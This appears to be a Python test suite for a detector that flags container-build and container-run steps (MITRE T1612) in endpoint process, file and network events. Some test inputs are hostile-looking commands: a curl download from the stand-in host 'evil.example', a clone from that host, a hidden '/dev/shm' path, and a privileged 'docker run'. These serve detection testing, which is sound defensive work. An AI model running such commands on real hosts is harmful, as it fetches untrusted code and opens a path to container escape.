"""An event is told as the steps it is, with what they name; and nothing else of it is kept."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from t1612core import Detector, EventError, Kind
from t1612core.container.fetches import fetches
from t1612core.engine import observing
from t1612core.facts import steps
from t1612core.knowledge.programs import DOWNLOADERS
from t1612core.observation import Observation
from t1612core.text.remembered import LONGEST_GROUP, MOST, Met

from .conftest import ROOT

DETECTOR = Detector()
VECTORS = ROOT / "tests" / "vectors"
STEPS = json.loads((VECTORS / "steps.json").read_text("utf-8"))
FETCHES = json.loads((VECTORS / "fetches.json").read_text("utf-8"))


def observe(line: str, name: str = "docker", **fields: object) -> tuple[Observation, ...]:
    event = {"FileName": name, "ProcessCommandLine": line, **fields}
    return DETECTOR.observe(event, kind="process")


@pytest.mark.parametrize("vector", STEPS, ids=[vector["id"] for vector in STEPS])
def test_vector(vector: dict[str, Any]) -> None:
    """Which steps an event is, and what each names."""
    found = DETECTOR.observe(vector["event"], kind=vector["kind"])

    assert vector["expected"] == [
        {
            "stage": step.stage,
            "links": [
                f"{'made' if link.is_made else 'used'} {link.kind} {link.value}"
                for link in step.links
            ],
            **({"repeats": True} if step.repeats else {}),
        }
        for step in found
    ]


@pytest.mark.parametrize("vector", FETCHES, ids=[vector["id"] for vector in FETCHES])
def test_what_a_line_puts_in_place(vector: dict[str, Any]) -> None:
    """The paths, and where they come from."""
    found = [
        {
            name: list(value)
            for name in ("paths", "sources", "files")
            if (value := getattr(fetched, name))
        }
        for fetched in fetches(vector["input"], DOWNLOADERS)
    ]

    assert vector["expected"] == found


def test_a_step_says_what_its_event_scores_once() -> None:
    line = "sh -c 'docker build -t app /tmp/a && docker run --privileged app'"
    build, deploy = observe(line, "sh", ReportId=7, AccountName="root", DeviceName="web-1")
    finding = DETECTOR.score_process({"FileName": "sh", "ProcessCommandLine": line})

    assert finding is not None
    assert (finding.score, True, finding.signals) == (build.score, build.is_alert, build.signals)
    assert "T1612" in build.attack
    assert (1, False) == (deploy.score, deploy.is_alert)
    assert (("process.run_privileged",), ("T1612", "T1610", "T1611")) == (
        deploy.signals,
        deploy.attack,
    )
    assert ("7@#1", "7@#2") == (build.reference, deploy.reference)
    assert ("root", "web-1") == (build.account, build.host)


def test_the_same_event_is_the_same_observation_and_another_is_not() -> None:
    time = "2026-03-01T00:00:00Z"
    first = observe("docker run app", Timestamp=time)

    assert first == observe("docker run app", Timestamp=time)
    assert first[0].reference != observe("docker run app")[0].reference
    assert first[0].reference != observe("docker run app -d", Timestamp=time)[0].reference
    assert (
        "7@2026-03-01T00:00:00+00:00"
        == observe("docker run a", ReportId=7, Timestamp=time)[0].reference
    )


def test_nothing_secret_is_kept() -> None:
    (step,) = observe("docker build --build-arg T=s3cret -t app https://u:s3cret@git.example/r.git")

    assert "s3cret" not in repr(step)


def test_odd_labels_are_no_error() -> None:
    (step,) = observe("docker run app", ReportId=[1], ProcessId={}, DeviceName=3, Timestamp="x")

    assert (None, "3") == (step.time, step.host)


def test_an_envelope_is_opened_and_what_is_no_mapping_refused() -> None:
    row = {"FileName": "docker", "ProcessCommandLine": "docker run app"}
    event = {"category": "AdvancedHunting-DeviceProcessEvents", "properties": row}

    assert observe("docker run app") == DETECTOR.observe(event, kind="process")
    assert observe("docker run app") == DETECTOR.observe(event)
    with pytest.raises(EventError, match="is int, expected a mapping"):
        DETECTOR.observe(7, kind="process")  # type: ignore[arg-type]  # what callers may do


def test_a_table_that_nothing_scores_has_no_steps() -> None:
    assert () == DETECTOR.observe({"Type": "DeviceLogonEvents"})
    assert 1 == len(DETECTOR.observe({"FileName": "docker", "ProcessCommandLine": "docker run a"}))


VALUES = st.none() | st.text(max_size=40) | st.integers() | st.lists(st.integers(), max_size=2)
KEYS = st.sampled_from(
    [
        *("FileName", "ProcessCommandLine", "FolderPath", "RemoteUrl", "RemoteIP", "RemotePort"),
        *("InitiatingProcessFileName", "InitiatingProcessCommandLine", "ActionType", "ReportId"),
    ]
)


@given(
    st.dictionaries(KEYS, VALUES),
    st.sampled_from(["process", "file", "network"]),
    st.sampled_from(["docker", "wget", "Dockerfile", "dockerd", "sh"]),
)
def test_any_event_is_observed_or_an_event_error(event: Any, kind: Any, name: str) -> None:
    event = {**event, ("InitiatingProcessFileName" if kind == "network" else "FileName"): name}
    try:
        found = DETECTOR.observe(event, kind=kind)
    except EventError:
        return

    assert all(isinstance(step, Observation) for step in found)


def test_an_event_tells_its_hosts_clock() -> None:
    row = {"DeviceName": "web-1", "Timestamp": "2026-03-02T10:00:00Z", "ActionType": "FileCreated"}
    envelope = {"category": "AdvancedHunting-DeviceNetworkEvents", "properties": row}

    expected = ("web-1", datetime(2026, 3, 2, 10, tzinfo=UTC))
    assert expected == DETECTOR.clock_of(row) == DETECTOR.clock_of(envelope)
    assert ("web-1", None) == DETECTOR.clock_of({**row, "Timestamp": "soon"})
    assert ("", None) == DETECTOR.clock_of({**row, "ActionType": "LogonSuccess"})
    with pytest.raises(EventError):
        DETECTOR.clock_of({"records": [row]})


PROGRAMS = ("bash", "docker", "git", "curl", "python3", "make", "x")
WORDS = (
    *(
        "-c",
        "docker",
        "run",
        "build",
        ".",
        "alpine",
        "ps",
        "'curl -o /tmp/a http://evil.example/a'",
    ),
    *(
        "clone",
        "https://evil.example/a",
        "/srv/a",
        "-t",
        "cp",
        "a:/b",
        "/dev/shm/.x",
        "&&",
        "commit",
    ),
)
LINES = st.lists(st.sampled_from(WORDS), min_size=1, max_size=6).map(" ".join)


@given(st.lists(st.tuples(st.sampled_from(PROGRAMS), LINES), min_size=1, max_size=4))
def test_what_was_met_is_the_same_steps_as_at_first(events: list[tuple[str, str]]) -> None:
    """Those that were no step are remembered by all that they say."""
    for name, line in (*events, *events):
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(Met, "__contains__", lambda met, texts: False)
            expected = observe(f"{name} {line}", name)
        assert expected == observe(f"{name} {line}", name)


def test_what_was_no_step_is_read_once(monkeypatch: pytest.MonkeyPatch) -> None:
    read: list[object] = []
    real = steps.steps

    def counted(kind: Kind, given: Any) -> tuple[steps.Step, ...]:
        read.append(given)
        return real(kind, given)

    monkeypatch.setattr(observing, "_steps", lambda: counted)
    detector = Detector()
    event = {"FileName": "bash", "ProcessCommandLine": "bash -c true", "AccountName": "a"}
    for changes, times in (
        ({}, 1),
        ({"ProcessId": 7}, 1),  # of each process its own, and no step hangs on it
        ({"AccountName": "b"}, 2),
        ({"InitiatingProcessCommandLine": "sh"}, 3),
        ({}, 3),
        ({"ProcessCommandLine": f"bash -c true {'x' * LONGEST_GROUP}"}, 4),
        ({"ProcessCommandLine": f"bash -c true {'x' * LONGEST_GROUP}"}, 5),  # too long to be kept
        ({"ProcessCommandLine": "bash -c 'docker run alpine'"}, 6),
        ({"ProcessCommandLine": "bash -c 'docker run alpine'"}, 7),  # a step, each time
    ):
        detector.observe({**event, **changes}, kind="process")

        assert times == len(read), changes


def test_what_was_met_is_forgotten_in_its_turn() -> None:
    met = Met()
    for i in range(3 * MOST):
        met.add((str(i), None))
        assert ("0", None) in met  # it comes again and again

    assert (str(3 * MOST - 1), None) in met
    assert ("1", None) not in met
    assert len(met._late) <= MOST
    assert len(met._before) <= MOST


def test_a_step_is_of_its_process_and_names_the_one_above() -> None:
    (step,) = Detector().observe(
        {
            "FileName": "docker",
            "ProcessCommandLine": "docker build .",
            "ProcessId": 7,
            "ProcessCreationTime": "2026-03-02T08:00:00Z",
            "InitiatingProcessId": 5,
        }
    )

    assert [("7@2026-03-02T08:00:00Z", True), ("5", False)] == [
        (link.value, link.is_made) for link in step.links if link.kind == "process"
    ]


def test_so_many_steps_are_kept_of_a_line_and_links_of_a_step() -> None:
    many = steps.MOST + 9
    tagged = " ".join(f"-t a{number}" for number in range(many))

    assert len(observe(f"sh -c '{'docker build -t a .;' * many}'", "sh")) == steps.MOST == 64
    assert [len(step.links) for step in observe(f"docker build {tagged} .")] == [steps.MOST]


def test_what_is_put_into_a_container_is_a_file_and_its_directories_may_be_hidden() -> None:
    (file,), (inside,) = observe("docker cp /srv/.x c:/"), observe("docker cp /srv/.x/y c:/")

    assert (file.signals, inside.signals) == ((), ("process.hidden_source",))
